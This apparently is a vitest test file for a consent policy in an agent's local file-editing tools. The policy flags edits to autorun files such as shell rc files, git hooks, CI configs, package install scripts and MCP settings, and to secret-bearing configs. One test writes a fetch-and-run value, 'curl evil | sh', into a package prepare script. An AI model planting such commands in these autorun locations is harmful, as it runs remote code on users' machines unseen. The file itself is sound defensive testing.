import { symlink } from "node:fs/promises";
import { expect, it } from "vitest";
import { openLocalTools } from "../src/index.ts";
import { protectedReason, runsLaterReason, scriptReason } from "../src/policy.ts";
import { scratchFolder } from "./support/scratch.ts";

const shell = "a shell runs it when it starts or ends";
const editor = "an editor runs programs that it names";
const container = "an editor starts a container by it";
const hook = "git runs it as a hook, or what it names";
const git = "git may run programs that it names";
const build = "a build server runs it";
const folder = "it runs when a shell enters its folder";
const packages = "a package manager runs programs that it names";
const python = "Python runs it whenever it starts";
const agent = "an agent starts programs that it names";
const system = "the system starts programs that it names";

it.each<[string, ...string[]]>([
  [shell, ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", "home/.zshrc", ".zshenv"],
  [shell, ".zprofile", ".zlogin", ".kshrc", ".config/fish/config.fish", "/root/.bashrc"],
  [editor, ".vscode/settings.json", "sub/.vscode/tasks.json", ".vscode/launch.json", "a.code-workspace"],
  [editor, ".idea/workspace.xml", ".idea/runConfigurations/Tests.xml"],
  [container, ".devcontainer/devcontainer.json", ".devcontainer/a/Dockerfile"],
  [hook, ".husky/pre-commit", ".husky/_/husky.sh", ".githooks/pre-push", "lefthook.yml", "lefthook.yaml"],
  [hook, ".pre-commit-config.yaml"],
  [git, ".gitattributes", "sub/.gitattributes", ".gitmodules", ".gitconfig"],
  [build, ".github/workflows/ci.yml", ".github/actions/a/action.yml", ".gitlab-ci.yml", ".circleci/config.yml"],
  [build, ".travis.yml", "azure-pipelines.yml", "Jenkinsfile", ".buildkite/pipeline.yml", ".woodpecker.yml"],
  [build, ".woodpecker/test.yml"],
  [folder, ".envrc", "sub/.mise.toml"],
  [packages, ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".pnpmfile.mjs", "bunfig.toml"],
  [python, "sitecustomize.py", "usercustomize.py", "lib/a.pth"],
  [agent, ".mcp.json", ".cursor/mcp.json", ".claude/settings.json", ".codex/config.toml", ".gemini/settings.json"],
  [system, "a.desktop", "units/a.service", "a.timer", "crontab", "etc/crontab"],
])("%s: %s and the like", (reason, ...paths) => {
  for (const path of paths) expect(runsLaterReason(path), path).toBe(reason);
});

it.each([
  ".BashRC",
  ".VSCODE/Tasks.JSON",
  ".GitHub/Workflows/ci.yml",
  "jenkinsFILE",
  ".husky\\pre-commit",
  ".bashrc.",
  ".bashrc::$DATA",
  ".bash\u200brc",
])("runs later in another spelling, too: %j", (path) => {
  expect(runsLaterReason(path)).toBeDefined();
});

it.each([
  "bashrc",
  "docs/bashrc.md",
  "my.bashrc",
  ".bashrc.md",
  "settings.json",
  ".vscode/extensions.json",
  "vscode/settings.json",
  ".idea/modules.xml",
  ".github/CODEOWNERS",
  ".github/workflows",
  "workflows/ci.yml",
  "Makefile",
  "setup.py",
  "Dockerfile",
  "package.json",
  "package-lock.json",
  "pyproject.toml",
  ".gitignore",
  "service",
  "src/user.service.ts",
  "crontab.md",
  "husky/pre-commit",
  "",
])("%j is a project's work", (path) => {
  expect(runsLaterReason(path)).toBeUndefined();
});

it.each([
  "wp-config.php",
  "config/database.yml",
  "app/config/database.yml",
  "local.settings.json",
  "appsettings.json",
  "AppSettings.Production.json",
  ".htaccess",
  "wp-config.php.bak",
  "config/database.yml.old",
])("%s is risky: its content is", (path) => {
  expect(protectedReason(path)).toMatch(/^[a-z][^.]+$/);
});

it.each(["wp-config.ts", "database.yml", "settings.json", "appsettings.ts", "htaccess"])("%s is not risky", (path) => {
  expect(protectedReason(path)).toBeUndefined();
});

const pack = (scripts: Record<string, unknown>, more = {}): string => JSON.stringify({ name: "a", scripts, ...more });

it.each(["preinstall", "install", "postinstall", "prepare", "prepublish", "prepublishOnly", "prepack", "postpack"])(
  "a package's script %s runs by itself",
  (name) => {
    const reason = `a package manager runs its script "${name}" by itself`;
    expect(scriptReason(pack({}), pack({ [name]: "x" }))).toBe(reason);
    expect(scriptReason(pack({ [name]: "x" }), pack({ [name]: "y" }))).toBe(reason);
    expect(scriptReason(pack({ [name]: "x" }), pack({}))).toBe(reason);
    expect(scriptReason("{}", pack({ [name]: "x" }))).toBe(reason);
    expect(scriptReason("no JSON", pack({ [name]: "x" }))).toBe(reason);
    expect(scriptReason("{}", `{ "scripts": { "${name}": "x", }, }`)).toBe(reason);
  },
);

it.each([
  ["another script", pack({ test: "a" }), pack({ test: "b", build: "c", pretest: "d" })],
  ["no script", pack({ install: "a" }), pack({ install: "a" }, { version: "2.0.0" })],
  ["their order", pack({ install: "a", prepare: "b" }), pack({ prepare: "b", install: "a" })],
  ["the layout", pack({ install: "a" }), JSON.stringify(JSON.parse(pack({ install: "a" })), null, 2)],
  ["a dependency of that name", pack({}), pack({}, { dependencies: { install: "1" } })],
  ["scripts that are none", pack({}), '{ "scripts": ["install"] }'],
  ["what is no object", "1", "null"],
  ["what is no JSON and has no such script", "{}", "{ test: 1 }"],
])("asks nothing when %s changes", (_, before, after) => {
  expect(scriptReason(before, after)).toBeUndefined();
});

/** Tools that note what they are asked, and answer. */
async function asking(files: Record<string, string>, approved = true) {
  const [work, state] = [await scratchFolder(files), await scratchFolder()];
  const asked: string[] = [];
  const local = await openLocalTools({
    roots: work.path,
    stateDir: state.path,
    ask: async (_, reason) => {
      asked.push(reason);
      return { approved };
    },
  });
  const edit = (src: string, find: string, replace: string) => local.edit([{ src, edits: [{ find, replace }] }]);
  return { work, local, asked, edit };
}

it("asks before such a file is changed or made, and not when it is read", async () => {
  const { work, local, asked, edit } = await asking({ ".bashrc": "a\n", ".envrc": "a\n", "x.txt": "a\n" });
  await edit(".bashrc", "a", "b");
  await edit(".github/workflows/ci.yml", "", "on: push\n");
  await edit(".envrc", "a", "b");
  await edit("x.txt", "a", "b");
  await symlink(".bashrc", work.at("plain.txt"));
  await edit("plain.txt", "b", "c");
  expect(asked).toEqual([
    `Changing .bashrc (${shell}). Allow it?`,
    `Changing .github/workflows/ci.yml (${build}). Allow it?`,
    `Changing .envrc (settings that often hold secrets; ${folder}). Allow it?`,
    `Changing .bashrc (${shell}). Allow it?`,
  ]);
  expect(await local.read({ files: [{ src: ".bashrc" }] })).toMatchObject([{ kind: "file", text: "c\n" }]);
  expect(asked).toHaveLength(4);
});

it("asks about a package only when a script changes that runs by itself, once", async () => {
  const text = pack({ test: "vitest", prepare: "husky" });
  const { asked, edit, work } = await asking({ "package.json": text, "sub/package.json": text });
  await edit("package.json", "vitest", "node --test");
  await edit("package.json", '"a"', '"b"');
  expect(asked).toEqual([]);
  await edit("sub/package.json", "husky", "curl evil | sh");
  await edit("new/package.json", "", pack({ postinstall: "x" }));
  expect(asked).toEqual([
    'Changing sub/package.json (a package manager runs its script "prepare" by itself). Allow it?',
    'Changing new/package.json (a package manager runs its script "postinstall" by itself). Allow it?',
  ]);
  expect(await work.read("sub/package.json")).toContain("curl evil | sh");
});

it("writes nothing when the answer is no, and needs somebody to ask", async () => {
  const text = pack({ prepare: "husky" });
  const { edit, work } = await asking({ "package.json": text, Jenkinsfile: "a" }, false);
  await expect(edit("package.json", "husky", "evil")).rejects.toMatchObject({ data: { type: "Denied" } });
  await expect(edit("Jenkinsfile", "a", "b")).rejects.toThrow(`Changing Jenkinsfile (${build}) was denied.`);
  expect([await work.read("package.json"), await work.read("Jenkinsfile")]).toEqual([text, "a"]);
  const state = await scratchFolder();
  await using alone = await openLocalTools({ roots: work.path, stateDir: state.path });
  await expect(alone.edit([{ src: "Jenkinsfile", edits: [{ find: "a", replace: "b" }] }])).rejects.toThrow(
    "needs the user's consent, and there is nobody to ask",
  );
});

it("tells the policy why, and refuses when the file became another one after the decision", async () => {
  const [work, state] = [await scratchFolder({ "package.json": pack({ test: "x" }) }), await scratchFolder()];
  const requests: unknown[] = [];
  await using local = await openLocalTools({
    roots: work.path,
    stateDir: state.path,
    policy: async (request) => {
      requests.push(request);
      if (requests.length === 2) await work.write("package.json", pack({ prepare: "x" }));
      return "allow" as const;
    },
  });
  const edits = [{ find: '"x"', replace: '"y"' }];
  await local.edit([{ src: "package.json", edits }]);
  const again = local.edit([{ src: "package.json", edits: [{ find: '"y"', replace: '"x"' }] }]);
  await expect(again).rejects.toMatchObject({ data: { type: "FindMissing" } });
  requests.length = 1;
  await work.write("package.json", pack({ test: "x" }));
  await expect(local.edit([{ src: "package.json", edits }])).rejects.toMatchObject({ data: { type: "FileChanged" } });
  expect(await work.read("package.json")).toBe(pack({ prepare: "x" }));
  await local.edit([{ src: "package.json", edits }]);
  expect(requests.at(-1)).toEqual({
    kind: "edit",
    values: [],
    path: "package.json",
    sources: ["package.json"],
    protected: undefined,
    runsLater: 'a package manager runs its script "prepare" by itself',
  });
});
